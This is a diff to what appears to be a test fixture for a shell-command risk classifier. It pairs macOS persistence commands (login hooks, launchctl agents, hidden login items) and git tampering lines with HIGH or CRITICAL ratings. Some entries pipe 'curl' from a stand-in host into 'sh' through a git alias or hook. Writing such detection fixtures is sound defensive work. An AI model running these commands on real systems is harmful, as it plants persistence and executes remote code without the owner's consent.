@@ -250,11 +250,6 @@ UNITS_AND_AGENTS = [
     ),
     ("sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.h.sh", HIGH),
     ("defaults write com.apple.loginwindow LogoutHook /tmp/out.sh", HIGH),
-    (
-        'osascript -e \'tell application "System Events" to make login item at end with '
-        'properties {path:"/tmp/x.app", hidden:true}\'',
-        HIGH,
-    ),
     ("launchctl submit -l com.x.keep -- /tmp/.x/agent", HIGH),
     ("launchctl bootstrap gui/$(id -u) ~/Library/LaunchAgents/com.evil.plist", HIGH),
     ("ln -s /tmp/x.plist ~/Library/LaunchAgents/", HIGH),
@@ -513,11 +508,6 @@ GIT_WEAKENED = [
     ("git config --system core.hooksPath /srv/shared/hooks", HIGH),
     ("git config --global gpg.program /tmp/.g", HIGH),
     ("git config --global alias.up '!curl -s http://x.example/a | sh'", CRITICAL),
-    (
-        "echo 'curl -s http://x.example/h | sh' > .git/hooks/post-checkout && chmod +x "
-        ".git/hooks/post-checkout",
-        CRITICAL,
-    ),
     (
         "sudo cp pre-receive /srv/git/project.git/hooks/ && sudo chmod +x "
         "/srv/git/project.git/hooks/pre-receive",
